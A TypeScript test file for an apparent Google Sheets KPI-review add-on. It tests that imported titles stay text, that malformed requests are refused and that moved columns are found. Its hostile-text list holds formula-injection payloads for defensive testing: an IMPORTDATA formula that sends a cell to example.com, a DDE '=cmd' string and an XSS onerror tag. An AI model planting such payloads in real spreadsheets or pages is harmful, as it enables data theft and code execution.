/** What comes from outside: hostile text, requests of any shape, and sheets that people rearranged. */
import fc from 'fast-check';
import { formulaOf } from '../../src/local/document/cell.ts';
import type { Machine } from '../../src/local/machine.ts';
import { SHEETS } from '../../src/workbook/sheets/index.ts';
import {
  ask,
  batch,
  bench,
  call,
  importText,
  lineOf,
  loadRows,
  reviewOf,
  rowsOf,
  sheetTitled,
  stateOf,
  type,
  valuesOf,
} from '../start/bench.ts';
import { type Video, youtube } from '../start/export.ts';

const WEEK = '2026-W31';
const video = (views: number, title?: string, id = 'F3HVs95pagk'): Video => ({
  id,
  published: 'Jan 5, 2026',
  likes: 5,
  views,
  hours: views / 100,
  ...(title === undefined ? {} : { title }),
});

function twice(machine: Machine, first: Video[], second: Video[], account = 'art'): void {
  importText(machine, youtube(first), { asOf: '2026-07-26', account });
  importText(machine, youtube(second), { asOf: '2026-08-02', account });
}

describe('hostile text', () => {
  const HOSTILE = [
    '=IMPORTDATA("https://example.com/?"&A1)',
    '+1',
    '@SUM(A1:A9)',
    '-2+3',
    '<img src=x onerror=alert(1)>',
    "'=1+1",
    '1/2',
    '{name}',
    '=HYPERLINK("https://example.com","x")',
  ];
  const id = (i: number): string => `-hostile${String(i).padStart(3, '0')}`;

  test('stays text in every tab', () => {
    const machine = bench();
    const videos = (views: number) => HOSTILE.map((title, i) => video(views + 10 * i, title, id(i)));
    twice(machine, videos(100), videos(200), '=cmd|"/c calc"!A1');
    loadRows(machine, 'settings', [{ key: 'cold_start_items', value: 0 }]);
    loadRows(machine, 'actions', [{ id: '=1', week: WEEK, finding: '=NOW()', action: '+A1', owner: '@x' }]);
    loadRows(machine, 'tree', [
      { id: '=t', parent: 'watch', name: '=NOW()', kind: 'influence', metric: '=views', owner: '=A1' },
    ]);
    call(machine, 'writeReview', { week: WEEK });
    expect(rowsOf(machine, 'content').map(({ title }) => title)).toEqual(HOSTILE);
    const formulas = machine.document().sheets.flatMap(({ title, cells }) =>
      cells.flatMap((row) =>
        (row ?? []).flatMap((cell) => {
          const formula = formulaOf(cell);
          return formula === undefined ? [] : [`${title}: ${formula}`];
        }),
      ),
    );
    const computed = SHEETS.filter(({ module }) => module === undefined).flatMap(({ titles, columns }) =>
      columns.flatMap(({ formula }) => (formula === undefined ? [] : [`${titles.en}: =VSTACK`])),
    );
    expect(formulas.map((formula) => formula.replace(/\(.*/s, '')).sort()).toEqual(computed.sort());
    const tab = valuesOf(machine, WEEK).flat();
    expect(tab).toEqual(expect.arrayContaining([...HOSTILE.slice(0, 5), '=NOW()', '+A1', '@x']));
    expect(tab.filter((cell) => String(cell).startsWith('Sheet “KPI tree”'))).toEqual([
      expect.stringContaining('there is no metric “=views”'),
    ]);
  });

  test('a title that looks like a placeholder or a replacement pattern is shown as it is', () => {
    const machine = bench();
    const account = '$& {days} $1';
    importText(machine, youtube([video(1)]), { asOf: '2026-07-25', account });
    importText(machine, youtube([video(2)]), { asOf: '2026-08-01', account });
    expect(reviewOf(machine, WEEK).headline.sentences[2]?.text).toBe(`Next: import the files of ${account}.`);
  });
});

describe('requests of any shape', () => {
  const machine = bench();
  twice(machine, [video(100)], [video(170)]);
  call(machine, 'writeReview', { week: WEEK });
  const before = stateOf(machine.document());
  const names = [
    'setUp',
    'recogniseFile',
    'importFile',
    'loadRows',
    'writeReview',
    'readReview',
    'closeReview',
    'sidebarState',
    'turnOnAutomation',
    'turnOffAutomation',
    'changeAutomation',
    'reviewDigest',
  ] as const;
  /** These ask for nothing, so that an empty request is a right one. */
  const takesNothing = (request: unknown): boolean =>
    request === null || request === undefined || JSON.stringify(request) === '{}';

  test('give a sentence and change nothing', () => {
    const request = fc.oneof(
      fc.anything({ maxDepth: 2 }),
      fc.record({ week: fc.oneof(fc.string(), fc.constantFrom('2026-W54', '0000-W00', '2026-W1')) }),
      fc.record({ language: fc.string(), currency: fc.string() }),
      fc.record({
        tables: fc.anything({ maxDepth: 3 }),
        fileName: fc.anything({ maxDepth: 1 }),
        asOf: fc.constantFrom('2026-02-30', 'x', 5),
      }),
      fc.record({
        tables: fc.array(
          fc.record({
            sheet: fc.constantFrom('__proto__', 'constructor', 'nothing', 'reviews'),
            rows: fc.constant([]),
          }),
          { minLength: 1 },
        ),
      }),
    );
    fc.assert(
      fc.property(fc.constantFrom(...names), request, (name, sent) => {
        fc.pre(!takesNothing(sent));
        const reply = machine.callFromSidebar(name, [sent]);
        if (!reply.ok) {
          expect(reply.error.name).toBe('TypeError'); // what google.script.run itself refuses to send
          return;
        }
        const answer = reply.value as { ok: boolean; sentence?: string };
        fc.pre(!takesNothing(JSON.parse(JSON.stringify(sent) ?? 'null')));
        expect(answer).toEqual({ ok: false, sentence: expect.stringMatching(/^\S.{5,}/s) });
      }),
      { seed: 20261122, numRuns: 80 },
    );
    expect(stateOf(machine.document())).toBe(before);
    expect(machine.triggers).toEqual([]);
  });

  test.each([
    [
      'importFile',
      { fileName: 'a.csv', tables: [], asOf: '2026-02-30' },
      'The request could not be understood: asOf is no day such as 2026-11-22.',
    ],
    ['writeReview', { week: '2026-W54' }, 'Week labels look like 2026-W47; found “2026-W54”.'],
    [
      'loadRows',
      { tables: [{ sheet: 'nothing', rows: [] }] },
      'The request could not be understood: nothing.',
    ],
    ['closeReview', { week: '2026-W01' }, 'There is no draft review to close.'],
    [
      'importFile',
      { fileName: 'a.csv', tables: [{ name: 'a', rows: [['Date', 'Wind']] }] },
      'No export that can be read has these headers: Date · Wind',
    ],
  ] as const)('%s %j', (name, request, sentence) => {
    expect(ask(machine, name, request)).toMatchObject({ ok: false, sentence });
    expect(stateOf(machine.document())).toBe(before);
  });

  test('a refusal of Google’s is a sentence, too', () => {
    machine.setFaults(({ method }) =>
      method.endsWith('.get') ? { kind: 'fail', message: 'Quota exceeded' } : undefined,
    );
    const reply = ask(machine, 'sidebarState', {});
    machine.setFaults(undefined);
    expect(reply).toEqual({
      ok: false,
      sentence: expect.stringMatching(/^Google answered: .*Quota exceeded/),
    });
  });
});

describe('sheets that people rearranged', () => {
  /** Renames, moves and inserts columns of the facts, hides one, and renames the tab. */
  function rearrange(machine: Machine): void {
    const { sheetId, columnCount } = sheetTitled(machine, 'Performance');
    const at = (startIndex: number, endIndex: number) => ({
      sheetId,
      dimension: 'COLUMNS',
      startIndex,
      endIndex,
    });
    type(machine, 'Performance', 'A1', 'Our videos');
    batch(
      machine,
      { moveDimension: { source: at(0, 1), destinationIndex: columnCount } },
      { insertDimension: { range: at(2, 3) } },
      { insertDimension: { range: at(9, 10) } },
      {
        updateDimensionProperties: {
          range: at(4, 5),
          properties: { hiddenByUser: true },
          fields: 'hiddenByUser',
        },
      },
      { updateSheetProperties: { properties: { sheetId, title: "Bo's numbers!" }, fields: 'title' } },
    );
    for (const cell of ['C1', 'C2', 'J2', 'C3']) type(machine, "Bo's numbers!", cell, `note ${cell}`);
  }

  test('columns are found wherever they are, and people’s own are left alone', () => {
    const [plain, moved] = [bench(), bench()];
    rearrange(moved);
    for (const machine of [plain, moved]) {
      twice(
        machine,
        [video(100), video(50, 'B', '-jsMYHMEL6I')],
        [video(170), video(55, 'B', '-jsMYHMEL6I')],
      );
      importText(machine, youtube([video(180)]), { asOf: '2026-08-02', account: 'art' });
    }
    expect(reviewOf(moved, WEEK)).toEqual(reviewOf(plain, WEEK));
    expect(lineOf(reviewOf(moved, WEEK), 'watch.views').actual.value).toBe(85);
    const cells = valuesOf(moved, "Bo's numbers!");
    expect([cells[0]?.[2], cells[1]?.[2], cells[1]?.[9], cells[2]?.[2]]).toEqual([
      'note C1',
      'note C2',
      'note J2',
      'note C3',
    ]);
    expect(cells.slice(1).map((row) => row.filter((cell) => String(cell).startsWith('note')).length)).toEqual(
      [2, 1, 0, 0],
    );
  });

  test('a copy of a template tab is ignored', () => {
    const machine = bench();
    importText(machine, youtube([video(100)]), { asOf: '2026-07-26', account: 'art' });
    const { sheetId } = sheetTitled(machine, 'Performance');
    batch(machine, {
      duplicateSheet: { sourceSheetId: sheetId, newSheetName: 'Performance backup', insertSheetIndex: 0 },
    });
    const copy = stateOf(sheetTitled(machine, 'Performance backup').cells);
    importText(machine, youtube([video(170)]), { asOf: '2026-08-02', account: 'art' });
    expect(rowsOf(machine, 'performance')).toHaveLength(2);
    expect(stateOf(sheetTitled(machine, 'Performance backup').cells)).toBe(copy);
    expect(lineOf(reviewOf(machine, WEEK), 'watch.views').actual.value).toBe(70);
    expect(call(machine, 'setUp', { language: 'en' }).added).toBe(0);
  });

  test.each([
    [
      'en',
      'The column “Watch time (hours)” of the sheet “Performance” is missing. Undo its deletion, or choose “Set up this spreadsheet”, which adds it back empty. A column that is given exactly this header counts, too.',
    ],
    ['zh-CN', '工作表“内容表现”缺少列“观看时长（小时）”'],
  ] as const)('a deleted column stops imports and is named in the review (%s)', (language, sentence) => {
    const machine = bench({ language });
    twice(machine, [video(100)], [video(170)]);
    const title = language === 'en' ? 'Performance' : '内容表现';
    const column =
      valuesOf(machine, title)[0]?.findIndex((cell) => /^(Watch time|观看时长)/.test(String(cell))) ?? -1;
    const { sheetId } = sheetTitled(machine, title);
    batch(machine, {
      deleteDimension: { range: { sheetId, dimension: 'COLUMNS', startIndex: column, endIndex: column + 1 } },
    });
    const before = stateOf(machine.document());
    const csv = youtube([video(200)])
      .split('\n')
      .map((line) => line.split(','));
    const reply = ask(machine, 'importFile', {
      fileName: 'a.csv',
      tables: [{ name: 'a', rows: csv.slice(0, -1) }],
      account: 'art',
      asOf: '2026-08-02',
    });
    expect(reply).toEqual({ ok: false, sentence: expect.stringContaining(sentence) });
    expect(stateOf(machine.document())).toBe(before);
    const review = call(machine, 'readReview', { week: WEEK });
    expect(review.notes.find(({ code }) => code === 'COLUMN_MISSING')?.text).toContain(sentence);
    expect(lineOf(review, 'watch.views').actual.value).toBe(70);
    call(machine, 'writeReview', { week: WEEK });
    expect(rowsOf(machine, 'issues', language)).toEqual([
      expect.objectContaining({ code: 'COLUMN_MISSING', sheet: title }),
    ]);
    call(machine, 'writeReview', { week: WEEK });
    expect(rowsOf(machine, 'issues', language)).toHaveLength(1);
  });

  test('a column that is there twice is named', () => {
    const machine = bench();
    const { sheetId } = sheetTitled(machine, 'Accounts');
    batch(machine, {
      createDeveloperMetadata: {
        developerMetadata: {
          metadataKey: 'kpi.column',
          metadataValue: 'accounts.id',
          visibility: 'DOCUMENT',
          location: { dimensionRange: { sheetId, dimension: 'COLUMNS', startIndex: 5, endIndex: 6 } },
        },
      },
    });
    const rows = [
      ['Content', 'Views'],
      ['F3HVs95pagk', '7'],
    ];
    expect(ask(machine, 'importFile', { fileName: 'a.csv', tables: [{ name: 'a', rows }] })).toEqual({
      ok: false,
      sentence: 'The column “Account ID” of the sheet “Accounts” is there twice. Delete one of the two.',
    });
  });

  test('bad cells are named, and the rest goes on', () => {
    const machine = bench();
    twice(machine, [video(100)], [video(170)]);
    loadRows(machine, 'targets', [
      { node: 'watch', from: 46230, to: 46236, target: 'lots' },
      { node: 'watch', target: 5 },
    ]);
    loadRows(machine, 'costs', [
      { date: 'soon', amount: 5 },
      { date: 46231, amount: 'much' },
      { date: 46231, amount: '1,250', currency: 'EUR' },
    ]);
    loadRows(machine, 'rates', [{ date: 46000, currency: 'EUR', rate: 'low' }]);
    loadRows(machine, 'settings', [{ key: 'review_hour', value: 'nine' }]);
    call(machine, 'writeReview', { week: WEEK });
    expect(
      rowsOf(machine, 'issues')
        .map(({ sheet, cell, code, found }) => [sheet, cell, code, found])
        .sort(),
    ).toEqual(
      [
        ['Settings', 'B4', 'BAD_SETTING', 'nine'],
        ['Targets', 'F2', 'BAD_NUMBER', 'lots'],
        ['Targets', 'B3', 'BAD_DATE', undefined],
        ['Targets', 'C3', 'BAD_DATE', undefined],
        ['Costs', 'A2', 'BAD_DATE', 'soon'],
        ['Costs', 'G3', 'BAD_NUMBER', 'much'],
        ['Exchange rates', 'C2', 'BAD_NUMBER', 'low'],
        ['Exchange rates', undefined, 'RATE_MISSING', 'EUR'],
      ].sort(),
    );
    expect(lineOf(reviewOf(machine, WEEK), 'watch.views').actual.value).toBe(70);
  });
});
